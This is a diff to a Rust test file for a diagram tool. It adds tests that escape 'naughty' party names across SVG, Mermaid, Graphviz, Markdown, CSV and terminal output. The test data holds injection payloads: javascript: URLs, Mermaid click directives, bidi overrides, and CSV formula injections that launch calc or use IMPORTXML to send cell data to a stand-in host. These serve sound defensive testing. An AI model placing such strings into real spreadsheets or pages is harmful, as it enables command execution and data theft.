@@ -2,10 +2,17 @@
 
 use cuibono::diagram::layout::{LayoutOptions, layout};
 use cuibono::diagram::{Diagram, Line, PartyBox};
-use cuibono::escape::visible::{MARK, is_format, is_noncharacter, visible};
+use cuibono::escape::csv::{Cells, CsvWriter, unguarded};
+use cuibono::escape::markdown::MarkdownText;
+use cuibono::escape::terminal::TerminalLine;
+use cuibono::escape::visible::{MARK, is_format, is_noncharacter, spelled, visible};
 use cuibono::export::fonts::Fonts;
 use cuibono::export::{dot, html, mermaid, png, svg};
 use quick_xml::events::Event;
+
+#[path = "support/tally.rs"]
+mod tally;
+use tally::tally;
 
 fn names() -> Vec<String> {
     let file = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/naughty-strings/blns.json");
@@ -21,6 +28,16 @@ fn names() -> Vec<String> {
         "]]>",
         "end",
         "%%{init: {}}%%",
+        "javascript:alert(1)",
+        "<foreignObject><b>x</b></foreignObject>",
+        "&#0;&#x1b;",
+        "a\u{202e}moc\u{202c}",
+        "\u{200b}\u{feff}",
+        "שלום 24 (x)",
+        "click n1 href \"http://x\"",
+        "$$x$$",
+        "<br/>",
+        "\\n\\l\\r",
     ];
     names.extend(own.iter().map(|name| (*name).to_owned()));
     names
@@ -69,6 +86,36 @@ fn svg_gives_names_back() {
     assert_eq!(attributes(&document, "line", "data-id"), wanted[1..]);
     let page = html::to_string(&diagram, &geometry);
     assert_eq!(page.matches("<script").count(), 1);
+    let exact = names.iter().zip(&wanted).filter(|(name, shown)| name == shown).count();
+    let ends = [("exact", exact), ("characters that XML forbids marked", names.len() - exact)];
+    tally("naughty names, in SVG", names.len(), &ends);
+}
+
+/// Every element and attribute of a picture is one that the writer means: none runs anything or leads anywhere.
+#[test]
+fn pictures_hold_nothing_that_runs_or_leads_away() {
+    const ELEMENTS: [&str; 8] = ["svg", "title", "desc", "g", "rect", "path", "polygon", "text"];
+    let diagram = diagram(&names());
+    let geometry = layout(&diagram, &LayoutOptions::default()).expect("valid");
+    let document = svg::to_string(&diagram, &geometry);
+    let mut reader = quick_xml::Reader::from_str(&document);
+    let mut seen = 0;
+    loop {
+        let element = match reader.read_event().expect("well-formed") {
+            Event::Eof => break,
+            Event::Start(element) | Event::Empty(element) => element,
+            Event::End(_) | Event::Text(_) | Event::GeneralRef(_) => continue,
+            other => panic!("{other:?} has no place in a picture"),
+        };
+        let name = element.name().as_ref().to_owned();
+        assert!(ELEMENTS.contains(&name.as_str()), "{name}");
+        for attribute in element.attributes() {
+            let key = attribute.expect("attribute").key.as_ref().to_owned();
+            assert!(!key.starts_with("on") && !key.contains("href") && key != "style", "{name} {key}");
+        }
+        seen += 1;
+    }
+    assert!(seen > 2_000, "{seen}");
 }
 
 #[test]
@@ -148,6 +195,8 @@ fn graphviz_shows_names_unchanged() {
         let cut = label.contains('…');
         assert!(cut || squeeze(label).starts_with(&squeeze(&wanted)), "{name:?} is shown as {label:?}");
     }
+    let exact = names.iter().filter(|name| dot_form(name) == **name).count();
+    tally("naughty names, in DOT through Graphviz", names.len(), &[("exact", exact), ("marked", names.len() - exact)]);
 }
 
 /// Text of each node by its id.
@@ -213,6 +262,153 @@ fn mermaid_follows_its_rule() {
         assert_eq!(shown, wanted, "{name:?}");
         assert!(label.chars().all(|c| c.is_ascii_alphanumeric() || " #;<>/".contains(c) || c >= '\u{A0}'), "{label}");
     }
+    assert!(!text.lines().any(|line| ["click", "%%{"].iter().any(|word| line.trim_start().starts_with(word))));
+    let exact = names.iter().filter(|name| visible(name) == **name && !name.chars().any(is_format)).count();
+    tally("naughty names, in Mermaid", names.len(), &[("exact", exact), ("marked", names.len() - exact)]);
+}
+
+/// A parser of Markdown, with all its extensions, sees nothing but texts: the names.
+#[test]
+fn markdown_shows_names_as_text() {
+    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+    let mut names = names();
+    let own = [
+        "[a](b)",
+        "![a](http://b/c.png)",
+        "<http://a.b>",
+        "http://a.b",
+        "(www.a.b",
+        "*www.a.b*",
+        "a@b.org",
+        "x|y",
+        "\\|",
+        "`a`",
+        "1. a",
+        "12) a",
+        "- a",
+        "+ a",
+        "* a",
+        "# a",
+        "> a",
+        "===",
+        "---",
+        "[^1]",
+        "[x] a",
+        "$a$",
+        ":smile:",
+        "a\n\n| b |",
+        "~~a~~",
+        "&lt;",
+        "&#60;script&#62;",
+        "<!-- a -->",
+        "[a]: http://b",
+        "[[a]]",
+        "mailto:a@b.c",
+        "a  \nb",
+        "{#id .class}",
+        "term\n: def",
+    ];
+    names.extend(own.map(str::to_owned));
+    let blank = names.iter().filter(|name| spelled(name).is_empty()).count();
+    let mut exact = 0;
+    for name in names.iter().filter(|name| !spelled(name).is_empty()) {
+        let (escaped, wanted) = (MarkdownText::new(name), spelled(name));
+        exact += usize::from(wanted == *name);
+        for document in
+            [format!("| a | b |\n| --- | --- |\n| {escaped} | {escaped} |\n"), format!("{escaped}\n\n{escaped}\n")]
+        {
+            let mut texts = vec![String::new()];
+            for event in Parser::new_ext(&document, Options::all() - Options::ENABLE_SMART_PUNCTUATION) {
+                match event {
+                    Event::Text(text) => texts.last_mut().expect("a text").push_str(&text),
+                    Event::Start(Tag::Table(_) | Tag::TableHead | Tag::TableRow | Tag::TableCell | Tag::Paragraph) => {}
+                    Event::End(TagEnd::TableCell | TagEnd::Paragraph) => texts.push(String::new()),
+                    Event::End(_) => {}
+                    other => panic!("{name:?} becomes {other:?} in {document:?}"),
+                }
+            }
+            texts.pop();
+            assert_eq!(texts[texts.len() - 2..], [wanted.as_str(), &wanted], "{name:?} in {document:?}");
+        }
+    }
+    let ends = [("exact", exact), ("marked", names.len() - blank - exact), ("blank", blank)];
+    tally("naughty names, in Markdown through a parser", names.len(), &ends);
+}
+
+/// No cell begins a formula in a spreadsheet, whatever that drops at its start, and each gives the exact name back.
+#[test]
+fn csv_starts_no_formula_and_gives_names_back() {
+    let mut names = names();
+    let own = [
+        "=1",
+        "+1",
+        "-1",
+        "@x",
+        "\t=1",
+        "\r=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠x",
+        " =1",
+        "\u{a0}=1",
+        "\u{3000}=1",
+        "\u{200b}=1",
+        "\u{feff}=1",
+        "'=1",
+        "''=1",
+        "\"=1\"",
+        "\n=1",
+        "\u{0}=1",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://x\",\"y\")",
+        "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
+        "\u{202e}=1",
+        "’=1",
+        "a=1",
+        "5",
+        "-5",
+    ];
+    names.extend(own.map(str::to_owned));
+    let mut out = CsvWriter::begin(Vec::new(), Cells::Safe, ["name"]).expect("memory");
+    for name in &names {
+        out.text(name).and_then(|()| out.end_row()).expect("memory");
+    }
+    let (bytes, marked) = out.finish().expect("memory");
+    let mut reader = csv::Reader::from_reader(bytes.as_slice());
+    let cells: Vec<String> = reader.records().map(|row| row.expect("a row")[0].to_owned()).collect();
+    assert_eq!(cells.len(), names.len());
+    let letters = |c: &char| c.is_alphanumeric() || "=+-@＝＋－＠'".contains(*c) || "\t\r".contains(*c);
+    for (cell, name) in cells.iter().zip(&names) {
+        assert_eq!(&*unguarded(cell), name.as_str());
+        assert!(!cell.chars().find(letters).is_some_and(|c| "=+-@＝＋－＠\t\r".contains(c)), "{cell:?}");
+    }
+    assert!((40..120).contains(&marked), "{marked}");
+    tally("naughty names, in CSV", names.len(), &[("exact", names.len() - marked), ("marked", marked)]);
+}
+
+/// Each name is one line of a terminal.
+#[test]
+fn terminals_are_given_lines_that_command_nothing() {
+    let names = names();
+    let mut exact = 0;
+    for name in &names {
+        let line = TerminalLine::new(name).to_string();
+        assert!(
+            !line.chars().any(|c| c.is_control() || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}' | '\u{2067}')),
+            "{line:?}"
+        );
+        let isolates = |c: char| line.matches(c).count();
+        assert_eq!(isolates('\u{2068}'), isolates('\u{2069}'));
+        exact += usize::from(line == *name);
+    }
+    tally(
+        "naughty names, on a terminal",
+        names.len(),
+        &[("exact", exact), ("marked or set apart", names.len() - exact)],
+    );
 }
 
 fn decode(label: &str) -> String {
